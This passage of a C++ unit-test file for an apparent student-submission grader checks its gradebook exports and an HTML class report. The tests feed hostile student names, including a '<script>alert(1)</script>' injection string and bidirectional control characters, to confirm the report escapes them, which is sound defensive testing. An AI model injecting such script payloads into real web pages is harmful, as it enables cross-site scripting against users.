            moodle.rfind("\"Identifier\",\"Full name\",\"Email address\",\"Status\",\"Grade\","
                         "\"Maximum Grade\",",
                         0),
            0U);
        if (!r.moodle.empty()) {
            EXPECT_NE(moodle.find(r.moodle), std::string::npos) << r.name << ":\n" << moodle;
        }
        const std::string canvas = check::canvas_gradebook(r.all, "setcalc");
        if (!r.canvas.empty()) {
            EXPECT_NE(canvas.find(r.canvas), std::string::npos) << r.name << ":\n" << canvas;
        }
        // A submission without an id has no row a gradebook could match.
        if (r.all.front().student_id.empty()) {
            EXPECT_EQ(std::count(moodle.begin(), moodle.end(), '\n'), 1) << moodle;
            EXPECT_EQ(std::count(canvas.begin(), canvas.end(), '\n'), 2) << canvas;
        }
        const json j = json::parse(check::to_json(r.all.front()));
        EXPECT_EQ(j.contains("student_id"), !r.all.front().student_id.empty()) << r.name;
        EXPECT_EQ(j.contains("late"), r.all.front().late.has_value()) << r.name;
    }
}

TEST(Formats, AnExecutableIsCalledExecutableInEveryFormat) {
    for (const std::string build : {"executable", ""}) {
        SubmissionResult s;
        s.program = "setcalc";
        s.submission = "ann";
        s.build_verdict = build;
        s.build_message = "found in setcalc-main/\n";
        s.cases = {result("one", Verdict::passed)};
        EXPECT_EQ(json::parse(check::to_json(s))["build"]["verdict"], "executable");
        EXPECT_EQ(json::parse(check::to_gradescope(s))["extra_data"]["build"], "executable");
        EXPECT_NE(check::grades_csv({s}).find("ann,1,1,100.0,executable,passed"), std::string::npos)
            << check::grades_csv({s});
        EXPECT_EQ(check::feedback_text(s).rfind("build: executable\n", 0), 0U);
        EXPECT_NE(check::report_html({s}).find(">executable<"), std::string::npos);
    }
}

// A class of students with various verdicts and hostile names, as the sample page shows it.
std::vector<SubmissionResult> sample_class() {
    const std::vector<std::string> cases = {"add-two-sets", "empty<input>", "huge & slow",
                                            "unicode-ünï", "bad-exit"};
    struct Student {
        std::string name, build;
        std::vector<Verdict> verdicts;
    };
    const std::vector<Student> students = {
        {"alice", "built", std::vector<Verdict>(5, Verdict::passed)},
        {"bob <script>alert(1)</script>",
         "built",
         {Verdict::passed, Verdict::wrong_output, Verdict::time_limit, Verdict::passed,
          Verdict::wrong_status}},
        {"carol \"O'Hara\" & co",
         "built",
         {Verdict::passed, Verdict::presentation, Verdict::passed, Verdict::crashed,
          Verdict::passed}},
        {"dave", "compile-error", std::vector<Verdict>(5, Verdict::compile_error)},
        {std::string("eve \xff\x01", 6),
         "",
         {Verdict::passed, Verdict::passed, Verdict::memory_limit, Verdict::passed,
          Verdict::passed}},
        {"frank", "missing", std::vector<Verdict>(5, Verdict::not_started)},
        {"grace", "refused", std::vector<Verdict>(5, Verdict::not_started)},
        {"heidi \u202e\u2066",
         "built",
         {Verdict::passed, Verdict::wrong_output, Verdict::passed, Verdict::passed,
          Verdict::passed}},
    };
    std::vector<SubmissionResult> all;
    for (const Student& st : students) {
        SubmissionResult s;
        s.program = "setcalc";
        s.submission = st.name;
        s.build_verdict = st.build;
        if (st.build == "compile-error")
            s.build_message = "main.cpp:12:5: error: 'sett' was not declared in this scope\n";
        for (std::size_t k = 0; k < cases.size(); ++k) {
            std::string message;
            if (st.verdicts[k] == Verdict::wrong_output || st.verdicts[k] == Verdict::presentation)
                message = "  standard output differs at line 2\n    expected:\n      1: {1, 2}$\n"
                          "    >  2: {3}$\n    got:\n      1: {1, 2}$\n    >  2: </pre><b>3</b>$\n";
            else if (st.verdicts[k] == Verdict::compile_error)
                message = "  the submission was not built\n";
            else if (st.verdicts[k] != Verdict::passed)
                message =
                    std::string("  ") + check::verdict_word(st.verdicts[k]) + " after 2 seconds\n";
            s.cases.push_back(result(cases[k], st.verdicts[k], message, k == 2 ? 3 : 1, k == 4));
            s.cases.back().wall_seconds = 0.1 * static_cast<double>(k + 1);
            if (st.verdicts[k] == Verdict::wrong_output ||
                st.verdicts[k] == Verdict::presentation) {
                CaseResult& r = s.cases.back();
                r.input = check::excerpt_of("{1, 2}\n{3}\n");
                r.expected = check::excerpt_of("{1, 2}\n{3}\n");
                r.actual = check::excerpt_of(st.verdicts[k] == Verdict::presentation
                                                 ? std::string("{1, 2}\n{3} \n")
                                                 : std::string("{1, 2}\n</pre><b>3</b>\n"));
            }
        }
        if (st.name.starts_with("heidi")) {  // prints far too much: its output is cut
            std::string flood = "{1, 2}\n</pre><b>3</b>\n";
            for (int line = 0; line < 300; ++line) flood += "{3}{3}{3}\n";
            s.cases[1].actual = check::excerpt_of(flood);
        }
        if (st.build == "built" && st.name.starts_with("bob"))
            s.build_message = "main.cpp:3:9: warning: unused variable 'x' [-Wunused-variable]\n";
        if (st.verdicts[1] == Verdict::presentation) s.cases[1].score = 0.5;
        s.seconds = 2;
        all.push_back(s);
    }
    return all;
}

TEST(Formats, ReportPageIsSelfContainedAndEscaped) {
    const std::vector<SubmissionResult> all = sample_class();
    const std::string html = check::report_html(all);
    EXPECT_NE(html.find("<title>collection-check: setcalc class report</title>"),
              std::string::npos);
    for (const char* outside : {"http://", "https://", "src=", "<link", "url(", "</script><"})
        EXPECT_EQ(html.find(outside), std::string::npos) << outside;
    // One script, the page's own, inline; and its style sheet inline.
    EXPECT_EQ(html.find("<script"), html.rfind("<script"));
    EXPECT_NE(html.find("<script>\n"), std::string::npos);
    EXPECT_NE(html.find("<style>\n"), std::string::npos);
    const std::vector<std::string> held = {
        "<svg",
        "bob &lt;script&gt;alert(1)&lt;/script&gt; — 2/7",
        "carol &quot;O&#39;Hara&quot; &amp; co — 5.5/7",
        "alice — 7/7",
        "dave — 0/7",
        "eve \\xff\\x01 — 4/7",
        "&lt;/pre&gt;&lt;b&gt;3&lt;/b&gt;$",
        "empty&lt;input&gt;",
        "main.cpp:12:5: error: &#39;sett&#39; was not declared",
        "v-compile-error",
        "v-missing",
        "v-refused",
        // bob's warnings flagged; the pass rates over the 5 of 8 that built.
        "v-warnings",
        "<h3>the compiler's warnings</h3>",
        "5 of 8 submissions that built",
        // the grid, and the failures side by side.
        "<table id=\"grid\"",
        "<h4>input fed</h4>",
        "&lt;/pre&gt;&lt;b&gt;3&lt;/b&gt;",
        // bob and heidi share the first difference on line 2.
        "2 students</span> (2 cases)",
        "<strong>the line ends with a blank too many</strong>:",
        "cut: the first 2002 of 3022 bytes shown (at most 200 lines, 64 KiB)",
        // a name's bidirectional controls shown as escapes.
        "heidi \\u202e\\u2066",
    };
    for (const std::string& text : held) EXPECT_NE(html.find(text), std::string::npos) << text;
    EXPECT_EQ(std::count(html.begin(), html.end(), '\xff'), 0);
    // The cases, the most failed first: "huge & slow" passed 2 of 5, "add-two-sets" 4 of 5.
    EXPECT_LT(html.find("<td class=\"name\">huge &amp; slow"),
              html.find("<td class=\"name\">add-two-sets"));
    std::size_t sections = 0;
    for (std::size_t at = 0; (at = html.find("<details>", at)) != std::string::npos; ++at)
        ++sections;
    EXPECT_EQ(sections, all.size());
    if (const char* page = std::getenv("REPORT_PAGE")) {
        std::ofstream(page, std::ios::binary) << html;
        EXPECT_TRUE(fs::file_size(page) == html.size()) << page;
    }
}

}  // namespace
